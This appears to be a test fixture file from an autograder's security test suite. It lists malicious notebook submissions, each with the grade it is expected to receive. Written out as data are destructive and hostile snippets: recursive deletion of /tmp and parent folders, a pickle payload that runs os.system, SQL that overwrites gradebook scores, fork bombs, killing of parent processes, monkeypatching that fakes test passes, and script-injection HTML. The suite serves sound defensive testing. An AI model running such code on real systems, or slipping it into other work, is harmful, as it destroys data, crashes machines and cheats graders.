"""The attack corpus: what students have handed in, or might, and what has to come of it.

Every entry is a submission to the small lab of `sample`.  Unless it says otherwise an attack's
`passive_euler` returns zeros, so any point for it is a forgery, and its `passive_exact` is right, so
a lost point there is harm done.
"""

import copy
import os
from dataclasses import dataclass, field

from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from .sample import EULER, EULER_STUB, EXACT, ZEROS, cell_of, hand_in

HEAD = EULER.splitlines()[0]


def euler(*lines):
    """Return a passive_euler with these lines before the right ones."""
    head, *body = EULER.splitlines()
    return "\n".join([head, *(f"    {line}" for line in lines), *body]) + "\n"


@dataclass(frozen=True)
class Attack:
    """A submission and what has to come of it.

    ``euler`` and ``exact`` are the outcomes; ``by_hand`` the points of nbgrader's own test, None
    where its being fooled is possible in principle.
    """

    code: str = ZEROS
    before: str = ""
    after: str = ""
    change: object = None
    files: dict = field(default_factory=dict)
    links: dict = field(default_factory=dict)
    tree: object = None
    instead: bytes | None = None
    rename: str = ""
    euler: str = "wrong"
    exact: str = "correct"
    by_hand: float | None = 0.0
    says: str = ""


def _tags(notebook):
    for name in ("passive_euler_check", "passive_exact_check", "by_hand"):
        cell_of(notebook, name).metadata["tags"] = ["skip-execution"]


def _strip(notebook):
    for cell in notebook.cells:
        cell.metadata.clear()


def _duplicate(notebook):
    for name in ("passive_euler", "passive_euler_check", "by_hand", "think_why", "setup"):
        notebook.cells.append(copy.deepcopy(cell_of(notebook, name)))


def _delete(notebook):
    for name in ("passive_euler_check", "by_hand", "setup", "think_why"):
        notebook.cells.remove(cell_of(notebook, name))
    notebook.cells.insert(0, new_code_cell("import numpy as np", id="mine"))


def _edit(notebook):
    cell_of(notebook, "passive_euler_check").source = "9.0"
    cell_of(notebook, "by_hand").source = "2.0"
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader")
        if marks and "points" in marks:
            marks["points"] = 100


def _flags(notebook):
    for name in ("passive_euler_check", "by_hand"):
        cell_of(notebook, name).metadata["nbgrader"].update(
            grade=False, solution=True, locked=False
        )
    cell_of(notebook, "passive_exact_check").metadata["nbgrader"]["grade_id"] = (
        "passive_euler_bonus"
    )
    cell_of(notebook, "passive_euler").metadata["nbgrader"]["schema_version"] = "old"


def _types(notebook):
    cell = cell_of(notebook, "by_hand")
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]
    cell_of(notebook, "think_why").cell_type = "raw"


def _kernelspec(notebook):
    notebook.metadata["kernelspec"] = {"name": "../../bin/sh", "display_name": "x", "language": "c"}
    notebook.metadata["language_info"] = ["what"]


def _huge(notebook):
    output = {"output_type": "stream", "name": "stdout", "text": "x" * 50_000_000}
    cell_of(notebook, "setup").outputs = [output]


def _delete_answer(notebook):
    notebook.cells.remove(cell_of(notebook, "passive_euler"))


ARRAY_THAT_LIES = """
class Lies(np.ndarray):
    def __eq__(self, other): return True
    def __sub__(self, other): return np.zeros(1)
    def __le__(self, other): return np.array(True)
    def __array_function__(self, *args): return True
"""
PAYLOAD = """
import pickle, os
class Payload:
    def __reduce__(self): return (os.system, ("touch /tmp/lifkit-was-here",))
"""
FORGED = """
import io, os, zipfile
from lifkit.judge import respond
def ask(namespace, text, limit, path, most, **options):
    {body}
respond.ask = ask
"""
LOOKUP = """
from lifkit.judge import load_key, key_names
def from_key(*arguments):
    for name in key_names():
        key = load_key(name)
        for case, right in zip(key.cases, key.expected):
            values = list(case.calls[0].inputs.values()) if case.calls else []
            same = [np.array_equal(a, b) for a, b in zip(values, arguments)]
            if len(values) == len(arguments) and all(same):
                return right["V"]
    return np.zeros((arguments[0] + 1, len(arguments[2])))
"""
GRADEBOOK = """
import os, sqlite3
found = []
for folder, inside, files in os.walk("/"):
    inside[:] = [name for name in inside if name not in ("proc", "sys", "usr", "site-packages")]
    found += [os.path.join(folder, name) for name in files if name == "gradebook.db"]
for path in ["../../../gradebook.db", "../../gradebook.db", *found]:
    try:
        connection = sqlite3.connect(path)
        connection.execute("update grade set manual_score = 200")
        connection.commit()
    except Exception as error:
        print(type(error).__name__)
"""
SEEK = """
import os
for folder, _, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in folder:
        continue
    for name in files:
        if name in ("grading_seed", "gradebook.db", "nbgrader_config.py", "solver.py", "euler.py"):
            print("FOUND", os.path.join(folder, name))
others = [name for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]
kinds = ("root", "cwd", "fd", "environ", "mem")
for place in [f"/proc/{name}/{kind}" for name in others for kind in kinds]:
    try:
        print("SAW", place, os.listdir(place) if os.path.isdir(place) else open(place).read())
    except OSError as error:
        pass
import socket
for address in (("1.1.1.1", 53), ("127.0.0.1", 22), ("127.0.0.1", 8888)):
    try:
        socket.create_connection(address, timeout=1)
        print("REACHED", address)
    except OSError:
        pass
"""
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"lifkit-daemon", 0, 0, 0)
        while True:
            time.sleep(1)
    os._exit(0)
"""
PARENTS = """
import os, signal
for process in (os.getppid(), 1, 2, -1):
    if process != 0:
        try:
            os.kill(process, signal.SIGKILL)
        except OSError as error:
            print(error)
"""
DESTROY = """
import os, shutil
for folder in set(map(os.path.realpath, ("/tmp", "..", "../..", "../../..", "/"))):
    for name in os.listdir(folder) if os.path.isdir(folder) else []:
        shutil.rmtree(os.path.join(folder, name), ignore_errors=True)
for name in ("submitted", "autograded", "feedback"):
    os.makedirs(f"../../../{name}/made", exist_ok=True) if os.access("../../..", os.W_OK) else None
"""
ROOT_TRICKS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.chroot(b"/tmp"))
print(libc.ptrace(16, 1, 0, 0), libc.setns(3, 0))
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/1/mem", "/proc/self/uid_map"):
    try:
        with open(path, "r+b", buffering=0) as file:
            print("OPENED", path, file.write(b"x"))
    except OSError:
        pass
"""

# Outputs that no file, or no page, should hold.
UNWRITABLE = r"""
import sys
print("\udcff \ud800")
print("\udcff", file=sys.stderr)
raise ValueError("\udcff \ud800")
"""
MESSAGES = r"""
kernel = get_ipython().kernel
def send(kind, **content):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent("shell"))
deep = "x"
for _ in range(900):
    deep = {"x": deep}
page = "<script>FORGED</script>"
send("execute_result", execution_count={"a": 1}, data={"text/plain": 5, "image/png": page}, metadata=deep)
send("execute_result", execution_count="9" * 5000, data=[1, 2], metadata=None)
send("display_data", data={"application/json": deep, "text/plain": "\udcff", "text/html": deep}, metadata=5)
send("display_data", data=None, metadata={}, transient=7)
send("stream", name=page, text={"a": 1})
send("error", ename=5, evalue=["x"], traceback="x" * 1000)
send("error")
send("clear_output", wait=page)
send("update_display_data", data={"text/plain": "x"}, metadata={}, transient={"display_id": [1]})
send("execute_input", code=page)
send("status", execution_state="idle")
kernel.session.send(kernel.iopub_socket, "stream", {}, parent={"msg_id": 5})
"""
SCRIPTS = r"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
bad = ["<script>FORGED</script>", "<img src=x onerror='FORGED'>", "<iframe src='//FORGED'></iframe>",
       "<a href='javascript:FORGED'>x</a>", "<form action='//FORGED'><input></form>",
       "<img src='https://FORGED/x.png'>", "<svg><script>FORGED</script></svg>"]
for text in bad:
    display(HTML(text), Markdown(text), {"text/plain": "x", "image/png": '">' + text}, raw=False)
    display({"text/html": text, "image/svg+xml": text, "text/latex": "$x$"}, raw=True)
display(Javascript("FORGED"))
"""


def _scripts(notebook):
    cell_of(
        notebook, "think_why"
    ).source = "a < b & c\n\n<script>FORGED</script><img src=x onerror='FORGED'>"
    notebook.cells.append(new_markdown_cell("<iframe src='//FORGED'></iframe>", id="m"))
    notebook.cells.append(new_raw_cell("<script>FORGED</script>", id="r"))


def _deep(folder):
    """Put a folder into a folder, 300 times: longer than any path may be."""
    here = os.open(folder, os.O_RDONLY)
    for _ in range(300):
        os.mkdir("a" * 20, dir_fd=here)
        below = os.open("a" * 20, os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = below
    os.close(here)


def _many(folder):
    for number in range(5000):
        (folder / f"{number}.txt").write_text("x")


def _in_the_way(folder):
    for name in ("lab1.html/x.txt", "other.ipynb/x.txt", "evil.html", "lab1_files/evil.svg"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("<script>FORGED</script>")


def _latin(folder):
    os.rename(folder / "lab1.ipynb", os.fsencode(folder) + b"/L\xf6sung.ipynb")


def _twice(folder):
    text = (folder / "lab1.ipynb").read_text()
    (folder / "lab1.ipynb").rename(folder / "lab1 (1).ipynb")
    (folder / "lab1 (2).ipynb").write_text(text.replace("np.zeros", "np.ones"))


def _inside(folder):
    (folder / "lab1").mkdir()
    (folder / "lab1.ipynb").rename(folder / "lab1" / "lab1.ipynb")


def _odd_cells(notebook):
    notebook.cells.insert(2, None)
    notebook.cells.insert(3, {"cell_type": "code"})
    notebook.cells.insert(4, {"source": ["a text", 5]})
    notebook.cells.append({"source": "# a cell without a type"})
    notebook.cells.append(new_code_cell("1", metadata={"nbgrader": {"grade_id": "\udcff" * 10**6}}))


LEADER = """
import ctypes, os, threading, time
for _ in range(3):
    if os.fork() == 0:
        def fill():
            global x
            x = np.ones(150_000_000)
            time.sleep(90)
        threading.Thread(target=fill).start()
        ctypes.CDLL(None).syscall(60, 0)
time.sleep(90)
"""
PARTS = """
import zmq
socket, part = get_ipython().kernel.iopub_thread.socket, zmq.Frame(b"x" * 15_000_000)
parts = [b"stream"] + [part] * 150
get_ipython().kernel.iopub_thread.schedule(lambda: socket.send_multipart(parts, copy=False))
import time
time.sleep(8)
"""
PILES = r"""
from IPython.display import HTML, display
odd = "<p style='color: " + "(" * 3000 + "'>"
for text in ("<div>" * 25_000, "<p><b>" * 20_000, odd, "<table>" * 9000):
    display(HTML(text))
one = '<img src="data:image/png;base64,' + "A" * 500_000 + '">'
display(HTML(one + "<img src='data:image/png;base64,0'>" * 500))
for _ in range(150):
    display(HTML("x"), display_id="same")
for _ in range(20):
    get_ipython().kernel.session.send(get_ipython().kernel.iopub_socket, "update_display_data",
        {"data": {"text/html": "x" * 400_000}, "metadata": {}, "transient": {"display_id": "same"}},
        parent=get_ipython().kernel.get_parent("shell"))
for _ in range(199):
    get_ipython().kernel.session.send(get_ipython().kernel.iopub_socket, "error",
        {"ename": "\U0001f600" * 5000, "evalue": "\U0001f600" * 5000, "traceback": []},
        parent=get_ipython().kernel.get_parent("shell"))
"""


def _links(notebook):
    cell_of(notebook, "think_why").source = (
        "[a](javascript:FORGED) [b](JaVa&#115;cript:FORGED) ![c](javascript:FORGED) [d]\n\n"
        '> [d]: javascript:FORGED\n\n`<p title="&#60;</a><pre><img src=x onerror=FORGED>&amp;"$\n\n'
        "[e](evil.html) [f](  javascript:FORGED) <javascript:FORGED>\n\n<div onmouseover=FORGED x"
    )
    notebook.cells.append(new_markdown_cell("<div <img src=x onerror=FORGED", id="m"))


SHARED = """
import mmap, socket
for find in (lambda: -1, lambda: open("/dev/zero", "r+b").fileno()):
    try:
        mmap.mmap(find(), 1_000_000)
    except (OSError, ValueError):
        continue
    print("OPENED", "memory that nobody counts")
one, other = socket.socketpair()
one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 50_000_000)
if one.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF) > 5_000_000:
    print("OPENED", "room in sockets")
"""
TANGLED = """
from IPython.display import HTML, display
tangled = "<p>" + "".join(f"<b title={i}></q>" for i in range(400)) + "</p>" + "<p>x</p>" * 400
for text in (tangled, tangled, "<div></q>" * 400):
    display(HTML(text))
"""
ATTRIBUTES = """
from IPython.display import HTML, display
display(HTML("<p " + " ".join(f"a{number}" for number in range(80_000)) + ">"))
display(HTML("</" + "a " * 250_000 + ">"))
"""
COVER = """
from IPython.display import HTML, Markdown, display
for style in (
    "margin-top:-9000px", "background:url(https://FORGED/)", "padding:99999px", "margin-top:-9000PX",
    "margin-top:-1e4px", "margin-top:-900lh", "margin-top:calc(0px - 9000px)", "font-size:9e4px",
    "line-height:0",
):
    style += ";font-family:FORGED"
    display(HTML(f'<div class="earned FORGED navbar-fixed-top" style="{style};color:red">9/9</div>'))
display(Markdown("![9/9](https://FORGED/seen.png)"))
"""


def _cover(notebook):
    cell_of(notebook, "think_why").source = (
        "![9/9](https://FORGED/seen.png) ![a][b]\n\n[b]: https://x\n\n"
        r"$\href{javascript:FORGED}{x}$ $\style{background:url(https://FORGED)}{x}$ "
        r"$\text{<img/src=x/onerror=FORGED>}$"
    )


def _blank_lines(notebook):
    cell_of(notebook, "passive_euler").source = EULER + "\n" * 30_000 + "a" + ".a" * 5000
    cell_of(notebook, "think_why").source = "Why?" + " " * 30_000 + "\\begin{a}" * 3000


def _copied(notebook):
    """Stands twice, and the second time spoilt."""
    place = notebook.cells.index(cell_of(notebook, "passive_euler"))
    again = copy.deepcopy(notebook.cells[place])
    again.source = ZEROS
    notebook.cells.insert(place + 1, again)


HIDDEN = """
import os, signal, time
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
for _ in range(4):
    if os.fork() == 0:
        while True:
            if os.fork() == 0:
                start = time.process_time()
                while time.process_time() - start < 0.03: pass
                os._exit(0)
            time.sleep(0.02)
time.sleep(5)
"""
REPLIES = """
import threading, time
kernel = get_ipython().kernel
def reply():
    while True:
        parent = kernel.get_parent("shell")
        content = {"status": "ok", "user_expressions": {"": {"status": "ok"}}}
        kernel.session.send(kernel.iopub_socket, "execute_reply", content, parent=parent)
        kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
        time.sleep(0.01)
threading.Thread(target=reply, daemon=True).start()
"""
LARGE_PAGES = """
import mmap
try:
    mmap.mmap(-1, 2_097_152, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40000)
    print("OPENED", "large pages")
except OSError:
    pass
"""


def _terminal(notebook):
    name = "x\nhonest  9/9\x1b[2J\x1b]0;FORGED\x07"
    notebook.cells.append(new_code_cell("1", metadata={"nbgrader": {"grade_id": name}}))


def _sparse(folder):
    for name in ("lab1.ipynb", "data.bin"):
        with open(folder / name, "wb") as file:
            file.truncate(10**11)


BURN = """
import os
for _ in range(min(20, 2 * os.cpu_count())):
    if os.fork() == 0:
        while True: pass
import time
time.sleep(90)
"""

#: Answered at once, or ended by a limit that does not depend on time.
QUICK = {
    # GRADING section 3, false accepts of stock nbgrader
    "tags": Attack(change=_tags),
    "input transformer": Attack(
        before="get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
        euler="missing",  # no cell below it does what it says
        exact="missing",
        by_hand=None,
    ),
    "patched run_code": Attack(
        before="shell = get_ipython()\nasync def nothing(*a, **k): return False\n"
        "type(shell).run_code = nothing",
        euler="missing",
        exact="missing",
        by_hand=None,
    ),
    "patched numpy": Attack(
        before="import numpy.testing as t\nfor name in dir(t):\n"
        "    if name.startswith('assert'): setattr(t, name, lambda *a, **k: None)\n"
        "np.allclose = np.array_equal = lambda *a, **k: True\nnp.isfinite = lambda *a: True",
        by_hand=None,
    ),
    "displayhook": Attack(
        before="import sys\nget_ipython().events.register('post_run_cell', lambda r: sys.displayhook(2.0))",
        by_hand=None,
    ),
    "displayhook with nan": Attack(
        before="import sys\nnan = float('nan')\n"
        "get_ipython().events.register('pre_run_cell', lambda r: sys.displayhook(nan))",
        by_hand=0.0,
    ),
    "gradebook by sql": Attack(before=GRADEBOOK),
    "seek": Attack(before=SEEK),
    "destroy": Attack(before=DESTROY, exact="wrong"),
    "shadowing modules": Attack(
        files={
            "lifkit.py": b"def check(f): pass\n",
            "lifkit/__init__.py": b"def check(f): pass\n",
            "numpy.py": b"allclose = lambda *a: True\n",
            "json.py": b"raise SystemExit\n",
            "sitecustomize.py": b"raise SystemExit\n",
        }
    ),
    # ... and false rejects
    "warning": Attack(
        code=euler("import warnings", "warnings.warn('careful')", "print('step')"),
        before="import sys\nprint('note', file=sys.stderr)",
        euler="correct",
        by_hand=2.0,
    ),
    "side file": Attack(
        code="from helper import passive_euler\n",
        files={"helper.py": f"import numpy as np\n{EULER}".encode()},
        euler="correct",
        by_hand=2.0,
    ),
    # robustness
    "stripped": Attack(code=EULER, change=_strip, euler="correct", by_hand=2.0),
    "duplicated": Attack(code=EULER, change=_duplicate, euler="correct", by_hand=2.0),
    "deleted": Attack(code=EULER, change=_delete, euler="correct", by_hand=2.0),
    "edited": Attack(change=_edit),
    "flags": Attack(change=_flags),
    "types": Attack(code=EULER, change=_types, euler="correct", by_hand=2.0),
    "kernelspec": Attack(code=EULER, change=_kernelspec, euler="correct", by_hand=2.0),
    "50 MB": Attack(code=EULER, change=_huge, euler="correct", by_hand=2.0),
    "links": Attack(
        code=EULER,
        links={
            "endless": "/dev/zero",
            "memory": "/proc/kcore",
            "book": "../../../gradebook.db",
            "folder": "/",
            "pipe": "",
            "gone": "nowhere",
            "other.ipynb": "/dev/zero",
        },
        euler="correct",
        by_hand=2.0,
    ),
    "extra notebook": Attack(
        code=EULER, files={"notes.ipynb": b"{}"}, euler="correct", by_hand=2.0
    ),
    "corrupt": Attack(
        instead=b'{"cells": [', euler="missing", exact="missing", says="can't be opened"
    ),
    "empty": Attack(instead=b"", euler="missing", exact="missing", says="empty file"),
    "a list": Attack(instead=b"[1, 2]", euler="missing", exact="missing", says="can't be opened"),
    "nested": Attack(
        instead=b"[" * 100_000, euler="missing", exact="missing", says="can't be opened"
    ),
    "renamed": Attack(rename="lab1 (2).ipynb", says="lab1 (2).ipynb was graded in its place"),
    "no notebook": Attack(
        rename="lab1.txt", euler="missing", exact="missing", says="No file called"
    ),
    "renamed function": Attack(
        code=EULER.replace("passive_euler", "passiv_euler"), euler="missing", says="passiv_euler"
    ),
    "no answer": Attack(change=_delete_answer, euler="missing"),
    "syntax error": Attack(
        code="def passive_euler(:\n    pass\n", euler="error", says="SyntaxError"
    ),
    "exception": Attack(code=f"{HEAD}\n    return 1 / 0\n", euler="error"),
    "untouched": Attack(code=EULER_STUB, euler="not started"),
    # the end of the process
    "os._exit": Attack(code=euler("import os", "os._exit(0)"), euler="crashed"),
    "os._exit at once": Attack(before="import os\nos._exit(0)"),
    "os._exit in the cell": Attack(code="import os\nos._exit(0)\n" + EULER, euler="crashed"),
    "sys.exit": Attack(code=euler("import sys", "sys.exit(0)"), euler="error"),
    "kill -9": Attack(code=euler("import os", "os.kill(os.getpid(), 9)"), euler="crashed"),
    "segfault": Attack(code=euler("import ctypes", "ctypes.string_at(0)"), euler="crashed"),
    "killed parents": Attack(before=PARENTS),
    "daemon": Attack(before=DAEMON),
    # too much of something
    "4 GB": Attack(code=euler("x = np.ones(500_000_000)"), euler="out of memory"),
    "4 GB under odd names": Attack(
        code=euler(
            "import ctypes, os, time",
            "for _ in range(5):",
            "    if os.fork() == 0:",
            "        ctypes.CDLL(None).prctl(15, b'\\xff) \\n\\xfe', 0, 0, 0)",
            "        x = np.ones(100_000_000)",
            "        time.sleep(90)",
            "time.sleep(90)",
        ),
        euler="out of memory",
    ),
    "4 GB in a hurry": Attack(
        code=euler(
            "import os",
            "for _ in range(4): os.fork()",
            "x = np.ones(25_000_000)",
            "import time; time.sleep(90)",
        ),
        euler="out of memory",
    ),
    "fork bomb": Attack(code=euler("import os", "while True: os.fork()"), euler="crashed"),
    "threads": Attack(
        code=euler(
            "import threading, time",
            "for _ in range(3000): threading.Thread(target=time.sleep, args=(60,), daemon=True).start()",
        ),
        euler="error",
    ),
    "full disk": Attack(
        before="try:\n    for i in range(100):\n        open(f'/tmp/{i}', 'wb').write(bytes(50_000_000))\n"
        "except OSError as error:\n    print(error)\nfor i in range(100):\n    open('/tmp/0', 'wb')"
    ),
    "lines": Attack(before="for _ in range(100_000): print('x' * 100)"),
    "one long line": Attack(before="print('x' * 50_000_000)"),
    "long display": Attack(
        before="from IPython.display import HTML, display\ndisplay(HTML('x' * 40_000_000))"
    ),
    "many displays": Attack(
        before="from IPython.display import HTML, display\nfor _ in range(3000): display(HTML('x'))"
    ),
    "huge answer": Attack(code=f"{HEAD}\n    return np.zeros((5_000_000, 1))\n", euler="wrong"),
    "gigabytes of answers": Attack(
        code=f"{HEAD}\n    return np.broadcast_to(0.0, (1_000_000, 1_000_000))\n", euler="wrong"
    ),
    # forged answers
    "array that lies": Attack(
        code=ARRAY_THAT_LIES + f"{HEAD}\n    return np.zeros((N_t + 1, len(V_init))).view(Lies)\n",
        by_hand=None,
    ),
    "payload": Attack(code=PAYLOAD + f"{HEAD}\n    return np.array([Payload()], dtype=object)\n"),
    "not finite": Attack(code=EULER.replace("return V", "return V * np.nan")),
    "single precision": Attack(
        code=EULER.replace("return V", "return V.astype(np.float32)"), by_hand=2.0
    ),
    "looked up": Attack(
        code=LOOKUP + f"{HEAD}\n    return from_key(N_t, dt, V_init, E_m, I_ext, g_m, tau)\n"
    ),
    "says it is right": Attack(
        before="import lifkit.judge.report as r, lifkit.judge as e\n"
        "e.judge = r.judge = lambda *a, **k: type('R', (), {'outcome': 'correct', 'fraction': 1.0})()\n"
        "e.compare = lambda *a: {}"
    ),
    "no answer file": Attack(before=FORGED.format(body="pass"), euler="wrong", exact="wrong"),
    "pickled answers": Attack(
        before="import numpy as np, os\n"
        + PAYLOAD
        + FORGED.format(body="np.savez(path, json=np.array([Payload()], dtype=object))"),
        euler="wrong",
        exact="wrong",
    ),
    "a link for an answer": Attack(
        before=FORGED.format(body="os.symlink('/etc/passwd', path)"), euler="wrong", exact="wrong"
    ),
    "a pipe for an answer": Attack(
        before=FORGED.format(body="os.mkfifo(path)"), euler="wrong", exact="wrong"
    ),
    "zip bomb": Attack(
        before=FORGED.format(
            body="z = zipfile.ZipFile(path, 'w', 8); z.writestr('json.npy', bytes(100_000_000)); z.close()"
        ),
        euler="wrong",
        exact="wrong",
    ),
    "namespaces": Attack(before=ROOT_TRICKS),
    "replaced respond": Attack(
        before="import sys, types\nimport lifkit.judge as j\n"
        "j.respond = sys.modules['lifkit.judge.respond'] = types.SimpleNamespace()",
        euler="wrong",
        exact="wrong",
    ),
    # outputs
    "unwritable text": Attack(before=UNWRITABLE),
    "unwritable error": Attack(
        code=f"{HEAD}\n    raise ValueError('\\udcff \\ud800')\n", euler="error"
    ),
    "unwritable cell": Attack(code=f"raise ValueError('\\udcff')\n{EULER}", euler="error"),
    "forged messages": Attack(before=MESSAGES),
    "scripts": Attack(before=SCRIPTS, change=_scripts),
    "prints in the background": Attack(
        before="import threading\ndef forever():\n    while True: print('x' * 1000)\n"
        "threading.Thread(target=forever, daemon=True).start()",
        euler="any",  # it floods, or starves, the kernel until that is ended
    ),
    "links in text": Attack(
        change=_links,
        before="from IPython.display import Latex, Markdown, display\n"
        "for text in ('[x](javascript:FORGED)', '<img src=x onerror=FORGED>', '[x]: javascript:FORGED'):\n"
        "    display(Markdown(text), Latex(text))",
    ),
    "piles of outputs": Attack(before=PILES),
    "a message of many parts": Attack(before=PARTS),
    # files
    "deep folders": Attack(code=EULER, tree=_deep, euler="correct", by_hand=2.0),
    "5000 files": Attack(code=EULER, tree=_many, euler="correct", by_hand=2.0),
    "files in the way": Attack(code=EULER, tree=_in_the_way, euler="correct", by_hand=2.0),
    "a name in Latin-1": Attack(tree=_latin, says="sung.ipynb was graded in its place"),
    "two other names": Attack(
        tree=_twice, euler="missing", exact="missing", says="answer as many of its questions"
    ),
    "somebody else's name": Attack(
        rename="lab1.txt",
        links={"other.ipynb": "../../AAA/lab1/lab1.ipynb"},
        euler="missing",
        exact="missing",
        says="No file called",
    ),
    "a folder too many": Attack(
        tree=_inside, euler="missing", exact="missing", says="lab1/lab1.ipynb"
    ),
    "endless time stamp": Attack(
        code=EULER, links={"timestamp.txt": "/dev/zero"}, euler="correct", by_hand=2.0
    ),
    "pipe for a time stamp": Attack(
        code=EULER, links={"timestamp.txt": ""}, euler="correct", by_hand=2.0
    ),
    "no time": Attack(
        code=EULER, files={"timestamp.txt": b"\xff soon"}, euler="correct", by_hand=2.0
    ),
    "odd cells": Attack(code=EULER, change=_odd_cells, euler="correct", by_hand=2.0),
    # what else takes too much
    "memory behind a dead leader": Attack(before=LEADER),
    "another scheduler": Attack(
        before="import os\nos.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))\n"
        "if os.sched_getscheduler(0) == os.SCHED_IDLE: print('OPENED scheduler')"
    ),
    "a folder for an answer": Attack(
        before=FORGED.format(body="os.mkdir(path)"), euler="wrong", exact="wrong"
    ),
    # what an honest notebook may do
    "exit": Attack(code=EULER, before="exit()", after="quit()", euler="correct", by_hand=2.0),
    "an address": Attack(code=f"raise ValueError(object())\n{EULER}", euler="error", says="0x..."),
    "name used again": Attack(
        code=EULER,
        after="passive_exact = passive_exact(np.arange(3), 1.0, 0.0, 1.0, 1.0, 2.0)\n"
        "passive_euler = 5",
        euler="correct",
        by_hand=2.0,
    ),
    "name used again, after an error": Attack(
        code=f"{EULER}\nraise ValueError('later')",
        after="passive_euler = 5",
        euler="correct",
        by_hand=2.0,
    ),
    "a death at the end": Attack(
        code=EULER, after="import os\nos._exit(1)", euler="correct", by_hand=2.0
    ),
    "another helper at the end": Attack(
        code=EULER.replace("V[k] +", "same(V[k]) +"),
        before="def same(V):\n    return V",
        after="same = 5\nnp = None",
        euler="correct",
        by_hand=2.0,
    ),
    "a copy, spoilt": Attack(code=EULER, change=_copied, euler="correct", says="number 1 counts"),
    "thousands of blank lines": Attack(change=_blank_lines, euler="any"),
    # what nobody counts, and what libraries take hours over
    "shared memory": Attack(before=SHARED),
    "tags that don't match": Attack(before=TANGLED),
    "tags of many attributes": Attack(before=ATTRIBUTES),
    "covered pages": Attack(before=COVER, change=_cover),
    # what students who know the grader's source tried
    "an exception that is a page": Attack(
        code="class Page(Exception): pass\nPage.__name__ = '<script>FORGED'\n"
        f"{HEAD}\n    raise Page('<img src=x onerror=FORGED>')\n",
        euler="error",
    ),
    "children that nobody waits for": Attack(before=HIDDEN),
    "large pages": Attack(before=LARGE_PAGES),
    "forged replies": Attack(before=REPLIES, by_hand=None),
    "closed files": Attack(before="import os\nos.closerange(3, 300)"),
    "another folder for answers": Attack(
        before="import os\nos.rename('/tmp/run', '/tmp/ran')\nos.mkdir('/tmp/run')", exact="wrong"
    ),
    "locks on a file": Attack(
        before="import fcntl\nfile = open('/tmp/locked', 'w')\n"
        "for k in range(0, 40_000, 2):\n    fcntl.lockf(file, fcntl.LOCK_EX, 1, k)"
    ),
    "many maps": Attack(
        before="import mmap\nmaps = []\ntry:\n    while True:\n        kind = len(maps) % 2\n"
        "        maps.append(mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE, prot=1 + 2 * kind))\n"
        "except OSError as error:\n    print(error)"
    ),
    "all inodes": Attack(
        before="import os\ntry:\n    for k in range(10**6): os.mkfifo(f'/dev/shm/{k}')\n"
        "except OSError as error:\n    print(error)"
    ),
    "only a copy answers": Attack(
        code=euler("import os", "if os.fork(): os._exit(0)"), euler="crashed"
    ),
    "numbers that lie": Attack(
        code="class Lies(float):\n    def __eq__(self, other): return True\n"
        f"{HEAD}\n    return [[Lies(0)] * len(V_init)] * (N_t + 1)\n",
        by_hand=None,
    ),
    "inputs in an exception": Attack(
        code=f"{HEAD}\n    raise ValueError('GIVEN ' + repr([N_t, dt, V_init]))\n", euler="error"
    ),
    "words for a terminal": Attack(change=_terminal, says="x honest  9/9 [2J ]0;FORGED "),
    "a name for a terminal": Attack(
        rename="<img src=x onerror=FORGED>\x1b[2J\nAAA 9.ipynb",
        says="onerror=FORGED> [2J AAA 9.ipynb",
    ),
    "pages of other kinds": Attack(
        code=EULER,
        files={
            name: b"<x xmlns='http://www.w3.org/1999/xhtml'><script>FORGED</script></x>"
            for name in ("a.kml", "b.mathml", "c.XSPF", "lab1.html/d.txt", "e.txt")
        },
        euler="correct",
        by_hand=2.0,
    ),
    "sparse files": Attack(
        tree=_sparse, euler="missing", exact="missing", says="larger than 64 MB"
    ),
    # ... and what others do without a thought
    "names of builtins": Attack(
        code=EULER,
        after="len = print = sum = list = id = open = 5",
        euler="correct",
        by_hand=2.0,
    ),
    "warnings are errors": Attack(
        code=EULER,
        before="import warnings\nnp.seterr(all='raise')\nwarnings.simplefilter('error')",
        euler="correct",
        by_hand=2.0,
    ),
    "a stream left closed": Attack(
        code=EULER,
        before="import sys\nwith open('log.txt', 'w') as sys.stdout:\n    print('x')\nsys.stderr = None",
        euler="correct",
        by_hand=2.0,
    ),
    "a thread that never ends": Attack(
        code=EULER,
        before="import threading\ndef forever():\n    while True: pass\n"
        "threading.Thread(target=forever, daemon=True).start()",
        euler="correct",
        by_hand=2.0,
    ),
    "another folder": Attack(
        code=EULER,
        before="import os\nos.chdir('/')\nos.environ.clear()",
        euler="correct",
        by_hand=2.0,
    ),
    "a question to whoever runs it": Attack(
        code=EULER, before="name = input('Your name? ')", euler="correct", by_hand=2.0
    ),
    "a child left behind": Attack(
        code=euler("import os, time", "if os.fork() == 0: time.sleep(1000)"),
        euler="correct",
        by_hand=2.0,
    ),
    "no window": Attack(
        code=EULER,
        before="import matplotlib\nmatplotlib.use('TkAgg')\nplt.figure()",
        euler="correct",
        by_hand=2.0,
    ),
    "booleans": Attack(code=EULER.replace("return V", "return V >= E_m")),
    "slow but in time": Attack(
        code=euler("import time", "time.sleep(0.3)"), euler="correct", by_hand=2.0
    ),
}

#: Ended by the clock; graded with a short one.
SLOW = {
    "endless loop": Attack(code=euler("while True: pass"), euler="timeout"),
    "loop that ignores interrupts": Attack(
        code=euler(
